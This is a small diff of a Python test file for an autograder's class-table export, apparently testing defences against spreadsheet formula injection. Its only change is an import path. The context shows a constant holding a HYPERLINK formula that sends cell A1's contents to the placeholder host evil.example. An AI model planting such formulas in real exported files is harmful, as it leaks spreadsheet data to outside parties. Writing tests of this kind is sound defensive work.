@@ -7,7 +7,7 @@ import datetime as dt
 import pytest
 
 from autograder.exporting.table import ClassTable, class_table
-from autograder.grading.class_folder import ClassFolder
+from autograder.record.class_folder import ClassFolder
 from tests.classroom.graded_class import DUE, EVIL_ID, LESSON, GradedClass, graded_class
 
 FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'
